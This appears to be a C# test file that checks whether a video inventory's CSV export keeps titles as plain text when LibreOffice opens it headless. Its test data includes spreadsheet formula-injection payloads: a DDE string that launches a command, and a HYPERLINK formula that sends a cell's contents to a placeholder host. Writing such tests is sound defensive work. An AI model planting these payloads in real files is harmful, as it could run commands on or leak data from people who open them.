using System.IO.Compression;
using System.Text.Json;
using System.Xml.Linq;

namespace VideoPlatforms.Tests.Inventories;

/// <summary>Opens inventories in LibreOffice, without a window.</summary>
public sealed class SpreadsheetTests : InventoryTest
{
    private static readonly XNamespace Table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";
    private static readonly XNamespace Office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";
    private static readonly XNamespace Text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0";

    // UTF-8, commas and double quotes; text that looks like a number, a date or a formula is one.
    private const string Import = "--infilter=CSV:44,34,76,1,,0,false,true,false,true";

    private static readonly string[] Titles =
    [
        "=1+1", "+cmd|' /C calc'!A0", "-2", "@x", "\t=1+1", "\r=1+1", "＝1+1", "=HYPERLINK(\"http://h/?\"&A1)", "12e5", "00123", "12345678901234567890", "1/2", "TRUE",
        "'=1+1", "'quoted", "第一章, \"课\"",
    ];

    [SpreadsheetFact]
    public async Task Title_stays_text_in_LibreOffice()
    {
        Connect(Platform.Polyv);
        Response(
            ListCallOf(Platform.Polyv),
            $$$"""{"code":200,"status":"success","data":{"totalItems":{{{Titles.Length}}},"contents":[{{{string.Join(',', Titles.Select((title, index) => $$"""{"vid":"{{index}}","title":{{Quoted(title)}},"context":{{Quoted(title)}},"tag":{{Quoted(title)}}}"""))}}}]}}""");
        await ExportAsync("sheet.csv", forSpreadsheet: true);
        var columns = (await File.ReadAllLinesAsync(PathOf("sheet.csv")))[0].TrimStart('\uFEFF').Split(',').ToList();
        var rows = await OpenAsync("sheet.csv");

        Assert.Equal(Titles.Length, rows.Count);
        foreach (var (title, row) in Titles.Zip(rows))
        {
            foreach (var name in new[] { "Title", "Description", "Tags" })
            {
                var cell = row[columns.IndexOf(name)];
                Assert.Null(cell.Attribute(Table + "formula"));
                Assert.Equal("string", cell.Attribute(Office + "value-type")?.Value);
            }

            Assert.Contains(title.Trim('\t', '\r'), string.Concat(row[columns.IndexOf("Title")].Elements(Text + "p").Select(line => line.Value)), StringComparison.Ordinal);
        }

        // What LibreOffice saves as a CSV, without quotes around every text, is read as the same titles.
        await ConvertAsync("sheet.csv", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true", PathOf("saved"), Import);
        var saved = await File.ReadAllTextAsync(Assert.Single(Directory.GetFiles(PathOf("saved"))));
        await File.WriteAllTextAsync(PathOf("saved.csv"), saved, new System.Text.UTF8Encoding(encoderShouldEmitUTF8Identifier: true));
        Assert.Equal(Titles.Where(title => title[0] != '\r'), (await ImportAsync("saved.csv")).Select(video => video.Title).Where(title => title![0] is not ('\r' or '\n')));
        Assert.Empty(Host.CommandErrors);
    }

    [SpreadsheetFact]
    public async Task Title_is_a_formula_in_LibreOffice_without_ForSpreadsheet()
    {
        await File.WriteAllTextAsync(PathOf("plain.csv"), "Platform,Id,Title\r\nPolyv,a,=1+1\r\n");

        Assert.NotNull((await OpenAsync("plain.csv"))[0][2].Attribute(Table + "formula"));
    }

    private static string Quoted(string text) => JsonSerializer.Serialize(text);

    /// <summary>The cells of the rows below the names of the columns.</summary>
    private async Task<List<List<XElement>>> OpenAsync(string name)
    {
        await ConvertAsync(name, "ods", PathOf("opened"), Import);
        using var archive = ZipFile.OpenRead(Assert.Single(Directory.GetFiles(PathOf("opened"))));
        using var content = archive.GetEntry("content.xml")!.Open();
        var rows = XDocument.Load(content).Descendants(Table + "table").First().Descendants(Table + "table-row");
        return [.. rows.Skip(1).Select(row => row.Elements(Table + "table-cell").SelectMany(Repeat).ToList()).Where(row => row.Any(cell => cell.HasElements))];
    }

    private static IEnumerable<XElement> Repeat(XElement cell) =>
        Enumerable.Repeat(cell, Math.Min((int?)cell.Attribute(Table + "number-columns-repeated") ?? 1, 200));

    private async Task ConvertAsync(string name, string format, string folder, params string[] options)
    {
        // A profile of its own: another LibreOffice may be running.
        var run = await Run.ProgramAsync(
            SpreadsheetFactAttribute.Program!,
            [$"-env:UserInstallation={new Uri(PathOf("profile")).AbsoluteUri}", "--headless", "--norestore", .. options, "--convert-to", format, "--outdir", folder, PathOf(name)],
            Folder,
            TimeSpan.FromMinutes(5));
        Assert.True(run.ExitCode == 0 && Directory.Exists(folder), run.Output);
    }
}
